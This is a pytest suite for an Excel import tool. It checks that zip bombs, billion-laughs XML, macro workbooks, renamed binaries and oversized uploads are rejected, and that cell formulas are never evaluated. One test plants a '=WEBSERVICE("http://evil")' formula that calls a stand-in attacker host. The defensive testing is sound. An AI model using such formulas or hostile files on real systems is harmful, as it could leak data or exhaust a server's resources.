"""Hostile and broken uploads fail fast with a clear message, before openpyxl parses them."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import Engine

from powerlist.db import session_scope
from powerlist.excel.reading import UnsafeFile, open_workbook
from powerlist.imports import ImportRejected, import_file
from tests.fixtures_sheets import (
    billion_laughs_xlsx,
    macro_xlsx,
    published_list_xlsx,
    renamed_binary,
    settings_env,
    table_counts,
    world,
    zip_bomb_xlsx,
)

__all__ = ["settings_env", "world"]
POWERLIST = str(Path(sys.executable).with_name("powerlist"))


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return zip_bomb_xlsx(tmp_path_factory.mktemp("bomb") / "清单.xlsx", inflated_mb=300)


def test_zip_bomb_is_a_few_mb_that_inflates_past_100_mb(zip_bomb: Path) -> None:
    import zipfile

    with zipfile.ZipFile(zip_bomb) as archive:
        inflated = sum(i.file_size for i in archive.infolist())
    assert zip_bomb.stat().st_size < 5 * 1024 * 1024
    assert inflated > 300 * 1024 * 1024


def test_zip_bomb_is_refused_from_the_zip_directory_with_little_memory(
    zip_bomb: Path, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path}/p.db"
    env = {**os.environ, "POWERLIST_DATABASE_URL": url, "POWERLIST_REPORTS_DIR": str(tmp_path)}
    subprocess.run([POWERLIST, "db", "upgrade"], env=env, check=True, capture_output=True)
    # a wrapper process, so the peak memory measured is the import's alone (RUSAGE_CHILDREN)
    wrapper = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, done.returncode)\n"
    )

    result = subprocess.run(
        [sys.executable, "-c", wrapper, POWERLIST, "import", "items", str(zip_bomb)],
        env=env, capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip

    peak_kib, returncode = (int(v) for v in result.stdout.split())
    assert returncode == 1
    assert "压缩炸弹" in result.stderr
    assert peak_kib < 200 * 1024, f"import process peaked at {peak_kib} KiB"


def test_billion_laughs_is_refused_by_defusedxml(tmp_path: Path, settings_env: object) -> None:
    with pytest.raises(UnsafeFile, match="EntitiesForbidden"):
        open_workbook(billion_laughs_xlsx(tmp_path / "lol.xlsx"))


def test_macro_enabled_workbooks_are_refused(tmp_path: Path, settings_env: object) -> None:
    with pytest.raises(UnsafeFile, match=r"含宏的工作簿（\.xlsm）不予接收"):
        open_workbook(macro_xlsx(tmp_path / "清单.xlsm"))
    with pytest.raises(UnsafeFile, match="工作簿含宏"):
        open_workbook(macro_xlsx(tmp_path / "改名的宏.xlsx"))


def test_renamed_binary_and_old_xls_are_refused(tmp_path: Path, settings_env: object) -> None:
    with pytest.raises(UnsafeFile, match=r"不是 \.xlsx 文件"):
        open_workbook(renamed_binary(tmp_path / "清单.xlsx"))
    old = tmp_path / "清单.xls"
    old.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + os.urandom(512))
    with pytest.raises(UnsafeFile, match=r"旧版 \.xls"):
        open_workbook(old)


def test_files_over_the_size_limit_are_refused_before_reading(
    tmp_path: Path, settings_env: pytest.MonkeyPatch
) -> None:
    from powerlist.settings import get_settings

    path = published_list_xlsx(tmp_path / "清单.xlsx")
    settings_env.setenv("POWERLIST_IMPORT_MAX_BYTES", "1000")
    get_settings.cache_clear()
    with pytest.raises(UnsafeFile, match="文件过大"):
        open_workbook(path)


def test_too_many_rows_are_refused(tmp_path: Path, settings_env: pytest.MonkeyPatch) -> None:
    from powerlist.imports.sources import read_tables
    from powerlist.settings import get_settings

    path = published_list_xlsx(tmp_path / "清单.xlsx")
    settings_env.setenv("POWERLIST_IMPORT_MAX_ROWS", "3")
    get_settings.cache_clear()
    with pytest.raises(UnsafeFile, match="超过 3 行"):
        read_tables(path, lambda text: True)


@pytest.mark.parametrize(
    "make", [billion_laughs_xlsx, macro_xlsx, renamed_binary], ids=["laughs", "macro", "binary"]
)
def test_hostile_imports_write_nothing(
    world: Engine, tmp_path: Path, settings_env: object, make: object
) -> None:
    path = make(tmp_path / "清单.xlsx")  # type: ignore[operator]
    before = table_counts(world)
    with pytest.raises(ImportRejected) as caught, session_scope(world) as session:
        import_file(session, "items", path)
    assert caught.value.errors[0].file == "清单.xlsx"
    assert caught.value.error_workbook is None
    assert table_counts(world) == before


def test_formulas_in_an_upload_are_read_as_their_cached_values_never_evaluated(
    world: Engine, tmp_path: Path, settings_env: object
) -> None:
    import openpyxl
    from sqlalchemy import select

    from powerlist.models import PowerItem

    path = tmp_path / "公式.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["事项编码", "事项名称", "权力类型", "实施主体", "备注"])
    ws.append(["1001", "某检查事项", "行政检查", "市场监管局", '=WEBSERVICE("http://evil")'])
    wb.save(path)  # openpyxl stores no cached value: the cell reads back empty

    with session_scope(world) as session:
        import_file(session, "items", path)
    with session_scope(world) as session:
        item = session.scalar(select(PowerItem))
        assert item is not None and item.remarks is None


def test_a_sheet_wide_merge_is_bounded_by_the_column_and_row_caps(
    world: Engine, tmp_path: Path, settings_env: object
) -> None:
    import zipfile

    source = published_list_xlsx(tmp_path / "源.xlsx")
    hostile = tmp_path / "整表合并.xlsx"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"<mergeCells", 1)
                opening, rest = tail.split(b">", 1)
                data = head + b"<mergeCells" + opening + b'><mergeCell ref="A1:XFD1048576"/>' + rest
            new.writestr(info, data)

    # a range drawn over cells that hold values is not a real merge: it is ignored, quickly,
    # and the list imports as if it were not there (no row vanishes as a note)
    with session_scope(world) as session:
        plain = import_file(session, "items", source, dry_run=True)
        merged = import_file(session, "items", hostile, dry_run=True)
    assert merged.rows == plain.rows > 0
